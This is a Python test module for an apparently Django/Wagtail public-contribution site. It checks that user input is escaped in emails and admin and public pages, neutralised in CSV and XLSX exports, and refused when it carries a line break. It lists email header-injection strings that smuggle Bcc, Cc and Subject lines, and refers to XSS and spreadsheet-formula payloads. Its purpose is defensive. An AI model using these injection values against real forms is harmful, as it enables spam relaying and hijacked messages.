def _reply_email(world, contribution):
    from django.utils import translation
    from django.utils.translation import gettext

    with translation.override(contribution.language or "sv"):
        subject = gettext("The municipality has replied to your contribution %(reference)s") % {
            "reference": contribution.reference
        }
    (message,) = [message for message in world.emails if message.subject == subject]
    return message


def check_email(world, contribution):
    messages = [message for message in world.emails if contribution.reference in message.subject]
    assert len(messages) == 1, f"{len(messages)} emails (the reply's expected)"
    for message in messages:
        assert_only_the_author_is_addressed(message)
    message = _reply_email(world, contribution)
    page = soup(_html_part(message))
    assert tag_shape(page) == world.email_shape, "the reply email's markup differs from an ordinary one's"
    assert markup_profile(page) == world.email_markup
    paragraphs = [squash(paragraph.get_text()) for paragraph in page.select("p")]
    assert squash(contribution.reply) in paragraphs, "the reply is not one paragraph of text"
    if contribution.reply_signature:
        assert "–" + squash(contribution.reply_signature) in paragraphs, "the signature is not text"
    # The plain-text part has the reply as written (plain text is not escaped), in its body.
    assert contribution.reply in message.body, "the plain-text reply is changed"


@override_settings(WAGTAIL_DIALOG_RATE_LIMIT=None)
def test_the_emails_on_receiving_and_publishing_carry_no_input(client, world, django_capture_on_commit_callbacks):
    text = _STRINGS["crlf-body"] + "\r\n" + _STRINGS["xss-img"] + "\n" + _STRINGS["formula-hyperlink"]
    fields = {**form_fields("text", text), "name": _STRINGS["break-dq"], "email": AUTHOR, "notify": "on"}
    with django_capture_on_commit_callbacks(execute=True):
        assert post_urlencoded(client, world.open, fields).status_code == 302
        contribution = Contribution.objects.order_by("-pk").first()
        moderation.approve(contribution, world.superuser)
    messages = [message for message in mail.outbox if contribution.reference in message.subject]
    assert len(messages) == 2, [message.subject for message in mail.outbox]  # received, published
    for message in messages:
        assert_only_the_author_is_addressed(message)
        # Neither the text nor the name is in these emails at all.
        for content in (message.body, _html_part(message)):
            assert "alert(1)" not in content and "Bcc" not in content and "HYPERLINK" not in content


# --- CSV and XLSX -------------------------------------------------------------------


def _csv_rows(content):
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_rows(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _assert_no_formula_cells(rows):
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and _looks_like_formula(value)), f"unneutralised: {value[:80]!r}"


def _assert_row(row, contribution, export_format):
    row = dict(zip([column.key for column in exports.columns(Contribution, personal_data=True)], row))
    for key in ("text", "name", "email", "reply", "reply_signature"):
        expected, found = neutralised(getattr(contribution, key)), row[key]
        if export_format == "xlsx":
            found = "" if found is None else found  # an empty cell reads back as None
            # Characters XML cannot hold are dropped before neutralising (exports._xlsx_text).
            expected = neutralised("".join(char for char in getattr(contribution, key) if _xml_char(char)))
            expected = expected.replace("\r\n", "\n").replace("\r", "\n")  # XML reads CR back as LF
        assert found == expected, f"{key} is {str(found)[:80]!r}, expected {expected[:80]!r}"


def test_the_csv_export_has_every_formula_neutralised(world):
    header, *rows = world.csv_rows
    assert len(header) == len(world.columns) and len(rows) == len(world.contributions) + 2
    _assert_no_formula_cells(rows)


def test_the_xlsx_export_opens_and_has_every_formula_neutralised(world):
    try:
        header, *rows = _xlsx_rows(world.exports["xlsx"])
    except ElementTree.ParseError as error:
        broken = []
        for reference, row_xml in world.xlsx_rows.items():
            try:
                xlsx_row(row_xml)
            except ElementTree.ParseError:
                broken.append(next(key for key, c in world.contributions.items() if c.reference == reference))
        pytest.fail(f"the XLSX export does not open ({error}): rows that are not well-formed XML: {broken}")
    assert len(header) == len(world.columns) and len(rows) == len(world.contributions) + 2
    _assert_no_formula_cells(rows)


def check_csv(world, contribution):
    (row,) = [row for row in world.csv_rows if row[0] == contribution.reference]
    _assert_no_formula_cells([row])
    _assert_row(row, contribution, "csv")


XLSX_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsx_sheet_rows(content):
    """The rows of the workbook's sheet as raw XML, by the reference in their first cell.

    Each row is parsed on its own (``xlsx_row``), so that a row that is not
    well-formed XML fails for its own contribution, not for all of them.
    """
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    rows = {}
    for row in re.findall(r"<row\b.*?</row>", sheet, flags=re.DOTALL):
        reference = re.search(r'<c r="A\d+"[^>]*><is><t[^>]*>([^<]*)</t>', row)
        rows[reference.group(1) if reference else row[:40]] = row
    return rows


def xlsx_row(row_xml):
    """The cell values of one sheet row (None for an empty cell), and the cells holding formulas."""
    (row,) = ElementTree.fromstring(f'<sheetData xmlns="{XLSX_NS}">{row_xml}</sheetData>')
    values, formulas = {}, []
    for cell in row.iter(f"{{{XLSX_NS}}}c"):
        column = column_index_from_string(re.match(r"[A-Z]+", cell.get("r")).group())
        if cell.find(f"{{{XLSX_NS}}}f") is not None:
            formulas.append(cell.get("r"))
        if cell.get("t") == "inlineStr":
            texts = list(cell.iter(f"{{{XLSX_NS}}}t"))
            values[column] = "".join(text.text or "" for text in texts) if texts else None
        else:
            number = cell.find(f"{{{XLSX_NS}}}v")
            values[column] = number.text if number is not None else None
    return [values.get(column) for column in range(1, max(values, default=0) + 1)], formulas


def check_xlsx(world, contribution):
    row_xml = world.xlsx_rows.get(contribution.reference)
    assert row_xml is not None, "not in the XLSX export"
    try:
        row, formulas = xlsx_row(row_xml)
    except ElementTree.ParseError as error:
        bad = sorted({f"U+{ord(char):04X}" for char in row_xml if not _xml_char(char)})
        raise AssertionError(f"its row is not well-formed XML ({error}); characters XML forbids: {bad}") from None
    assert not formulas, f"formula cells {formulas}"
    _assert_no_formula_cells([row])
    _assert_row(row, contribution, "xlsx")


def _xml_char(char):
    """Whether XML 1.0 allows ``char`` in a document (its Char production)."""
    code = ord(char)
    return code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD or 0x10000 <= code <= 0x10FFFF


# --- Every published input, everywhere ------------------------------------------------

#: Where a published contribution is shown, and the check of each.
SURFACES = {
    "public page": check_public_page,
    "admin listing": check_admin_listing,
    "admin page": check_admin_page,
    "reply email": check_email,
    "CSV": check_csv,
    "XLSX": check_xlsx,
}


@pytest.mark.parametrize("key", PUBLISHED_IDS)
def test_published_input_is_escaped_everywhere(world, key):
    """The input as text, name, reply and signature of a published contribution:
    text (never markup) on the public page, in the admin listing and on its admin
    page, escaped in the reply email's HTML with nothing added to its headers,
    and neutralised in the CSV and XLSX exports. Every surface is checked, and
    every one that fails is reported."""
    contribution = world.contributions[key]
    problems = []
    for surface, check in SURFACES.items():
        try:
            check(world, contribution)
        except Exception as error:  # noqa: BLE001  (one surface failing must not hide the others)
            message = str(error).strip() or repr(error)
            problems.append(f"{surface}: {type(error).__name__}: {message}")
    assert not problems, "\n".join(problems)


# --- Header injection, directly -------------------------------------------------------

INJECTIONS = {
    "crlf": "\r\nBcc: x@example.com",
    "lf": "\nBcc: x@example.com",
    "cr": "\rBcc: x@example.com",
    "crlf-cc-subject": "\r\nCc: x@example.com\r\nSubject: hej",
    "nel": "\x85Bcc: x@example.com",
    "line-separator": "\u2028Bcc: x@example.com",
    "vt": "\x0bBcc: x@example.com",
    "ff": "\x0cBcc: x@example.com",
}


@override_settings(WAGTAIL_DIALOG_RATE_LIMIT=None)
@pytest.mark.parametrize("injection", list(INJECTIONS.values()), ids=list(INJECTIONS))
@pytest.mark.parametrize("field", ["name", "email"])
def test_a_line_break_in_the_name_or_email_is_refused_and_never_reaches_a_header(
    client, world, field, injection, django_capture_on_commit_callbacks
):
    value = ("Anna Andersson" if field == "name" else "anna@example.com") + injection
    fields = {**form_fields("text", SAFE_TEXT), "email": AUTHOR, "notify": "on", field: value}
    count = Contribution.objects.count()
    with django_capture_on_commit_callbacks(execute=True):
        response = post_urlencoded(client, world.open, fields)
    assert response.status_code == 200
    page = soup(response)
    assert page.select_one(f"#id_{field}-error") is not None, "no error on the field"
    assert page.select_one(f"#id_{field}")["aria-invalid"] == "true"
    assert Contribution.objects.count() == count
    assert not mail.outbox
